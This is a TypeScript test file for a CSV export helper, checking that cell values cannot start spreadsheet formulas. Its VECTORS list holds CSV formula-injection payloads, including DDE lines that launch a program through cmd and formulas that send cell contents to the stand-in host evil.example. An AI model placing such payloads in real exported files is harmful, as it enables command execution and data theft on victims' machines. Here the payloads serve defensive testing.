import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { neutral, textCell } from './csv-cell.js';

/** Texts that one spreadsheet or another would run, or follow, when they are opened. */
const VECTORS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=cmd|"/C calc"!A0',
  "=cmd|' /C calc'!A0",
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1+9)*cmd|"/C calc"!A0',
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=IMPORTRANGE("https://evil.example/sheet","A1:B2")',
  '=WEBSERVICE("https://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  '=MSEXCEL|"\\..\\..\\Windows\\System32\\cmd.exe /c calc"!"',
  '=10+20+cmd|" /C calc"!A0',
  '+cmd|"/C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '   +1+1',
  '\t\t-1',
  '\v=1+1',
  '\f=1+1',
  '\u00a0=1+1',
  '\u2003@A1',
  '\u200b=1+1',
  '\u202e=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '\u00ad=1+1',
  '"=1+1',
  '""=1+1',
  "'=1+1",
  '" =1+1"',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  ' ＝1+1',
  'Acme\n=1+1',
  'Acme\r\n@A1',
  'Acme\t=1+1',
  'Acme;=1+1',
  'Acme; +1+1',
  'Acme;"=1+1',
  'Acme",=1+1;=2+2',
  '\tAcme',
  '\rAcme',
];

/** Where a spreadsheet may take up a text: at its start, and wherever it splits at what is no comma. */
const starts = (text: string): string[] => text.split(/[,;\t\r\n]/).map((part) => part.replace(/^[\s"\p{Cf}\p{Cc}]+/u, ''));

const RUNS = /^[=+\-@＝＋－＠]/;

test('there are forty vectors and more', () => expect(new Set(VECTORS).size).toBeGreaterThanOrEqual(40));

describe.each(VECTORS)('%j', (text) => {
  test('starts no formula wherever it is split, and is otherwise what it was', () => {
    expect(starts(neutral(text)).filter((part) => RUNS.test(part))).toEqual([]);
    expect(neutral(text)).not.toMatch(/^[\t\r\n]/);
    expect(neutral(text).replaceAll("'", '')).toBe(text.replaceAll("'", ''));
  });

  test('is one cell of one line, in a table of commas', () => {
    const rows = parse(`a,b\r\n${textCell(text)},x\r\n`, { record_delimiter: '\r\n' });
    expect(rows).toEqual([
      ['a', 'b'],
      [neutral(text), 'x'],
    ]);
  });
});

test.each(['Acme', 'Müller & Söhne', 'a-b', 'x = y', 'me@acme.example', '1+1', 'O’Brien', 'Smith, Jones', 'hubspot:12-3'])(
  '%j stays as it is',
  (text) => expect(neutral(text)).toBe(text),
);

test('nothing that can be written starts a formula', () => {
  const text = fc.array(
    fc.oneof(
      fc.constantFrom('=', '+', '-', '@', '＝', '\t', '\r', '\n', ';', '"', "'", ' ', ',', 'a', '\u200b'),
      fc.string({ maxLength: 3 }),
    ),
  );
  fc.assert(
    fc.property(text, (parts) => {
      const cell = neutral(parts.join(''));
      expect(starts(cell).filter((part) => RUNS.test(part))).toEqual([]);
    }),
  );
});

test('an empty text is told from no text', () => expect(textCell('')).toBe('""'));
